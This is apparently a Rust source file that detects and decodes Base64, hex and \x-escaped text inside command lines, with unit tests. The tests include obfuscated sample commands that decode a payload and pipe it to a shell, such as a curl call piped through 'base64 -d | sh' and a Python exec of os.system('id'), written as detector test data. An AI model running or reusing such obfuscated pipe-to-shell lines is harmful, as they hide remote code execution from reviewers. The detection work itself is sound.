//! What a command line carries in Base64 or hexadecimal and decodes itself, in plain text.
//!
//! Only lines that say that they decode are looked at: a password in a header is Base64 too, and is nobody's business here.

/// Words that decode Base64.
const BASE64: [&str; 10] = [
    "base64 -d",
    "base64 -D",
    "base64 --decode",
    "b64decode",
    "base64_decode",
    "decode64",
    "atob(",
    "'base64'",
    "openssl enc -base64 -d",
    "openssl base64 -d",
];

/// Words that decode hexadecimal digits.
const HEX: [&str; 4] = ["xxd -r", "fromhex", "unhexlify", "hex2bin"];

/// Runs shorter than this are words, not code.
const SHORTEST: usize = 12;
/// How much is shown, in bytes.
const LONGEST: usize = 600;

/// The first run that decodes to plain text; `\x41` escapes need no word that says so. None when there is none.
pub fn plain(line: &str) -> Option<String> {
    let says = |words: &[&str]| words.iter().any(|word| line.contains(word));
    escapes(line)
        .or_else(|| if says(&BASE64) { runs(line, is_base64).find_map(base64) } else { None })
        .or_else(|| if says(&HEX) { runs(line, |byte| byte.is_ascii_hexdigit()).find_map(hex) } else { None })
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
}

/// The runs of bytes of one kind that are long enough.
fn runs(line: &str, kind: fn(u8) -> bool) -> impl Iterator<Item = &[u8]> {
    line.as_bytes().split(move |byte| !kind(*byte)).filter(|run| run.len() >= SHORTEST)
}

/// Decodes both alphabets; the padding is not part of a run.
fn base64(run: &[u8]) -> Option<String> {
    let mut bytes = Vec::new();
    let (mut held, mut bits) = (0_u32, 0);
    for byte in run {
        let value = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' => 62,
            _ => 63,
        };
        held = (held << 6 | u32::from(value)) & 0xffff;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            bytes.push((held >> bits & 0xff) as u8);
        }
    }
    readable(bytes)
}

fn hex(run: &[u8]) -> Option<String> {
    let digit = |byte: u8| (byte as char).to_digit(16).unwrap_or(0) as u8;
    readable(run.chunks_exact(2).map(|pair| digit(pair[0]) << 4 | digit(pair[1])).collect())
}

/// The first run of `\x41` escapes, four or more of them.
fn escapes(line: &str) -> Option<String> {
    let mut bytes = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.find("\\x") {
        let digits = rest.get(at + 2..at + 4).filter(|digits| digits.bytes().all(|byte| byte.is_ascii_hexdigit()));
        if at > 0 && bytes.len() >= 4 {
            break;
        }
        if at > 0 {
            bytes.clear();
        }
        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(byte) => {
                bytes.push(byte);
                rest = &rest[at + 4..];
            }
            None => rest = &rest[at + 2..],
        }
    }
    if bytes.len() >= 4 { readable(bytes) } else { None }
}

/// Text that somebody could have typed, cut where it is too long to show.
fn readable(mut bytes: Vec<u8>) -> Option<String> {
    while bytes.last() == Some(&b'\n') {
        bytes.pop();
    }
    let plain = |byte: &u8| matches!(byte, b' '..=b'~' | b'\n' | b'\t' | b'\r');
    if bytes.len() < 4 || !bytes.iter().all(plain) {
        return None;
    }
    let cut = bytes.len() > LONGEST;
    bytes.truncate(LONGEST);
    let mut text = String::from_utf8(bytes).ok()?;
    if cut {
        text.push('…');
    }
    Some(text)
}

#[cfg(test)]
mod tests {
    use super::plain;

    #[track_caller]
    fn check(line: &str, want: Option<&str>) {
        assert_eq!(plain(line).as_deref(), want, "{line}");
    }

    #[test]
    fn what_is_decoded_is_shown() {
        check("sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjk= | base64 -d | sh", Some("curl http://203.0.113.9"));
        check("sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkK|base64 --decode|bash", Some("curl http://203.0.113.9"));
        check(
            "python3 -c exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
            Some("import os;os.system('id')"),
        );
        check("sh -c echo 6375726c20687474703a2f2f78 | xxd -r -p | sh", Some("curl http://x"));
        check(r"printf \x63\x75\x72\x6c\x20\x78", Some("curl x"));
    }

    #[test]
    fn nothing_is_decoded_that_the_line_does_not_decode() {
        check("curl -H Authorization: Basic dXNlcjpwYXNzd29yZA== http://x", None);
        check("echo 6375726c20687474703a2f2f78", None);
        check("base64 -d /tmp/payload.b64", None);
        check("base64 -d /usr/share/documentation/readme", None);
        check(r"grep \x00", None);
    }

    #[test]
    fn hostile_lines_are_cut_and_never_panic() {
        let long = format!("base64 -d {}", "QUFB".repeat(2000));
        assert_eq!(plain(&long).map(|text| text.chars().count()), Some(601));
        for line in ["base64 -d ////////////////", r"\x", r"\xé\x41", "xxd -r abcdefabcdefa", r"\x41\x41\x41\x41\x", ""]
        {
            let _ = plain(line);
        }
    }
}
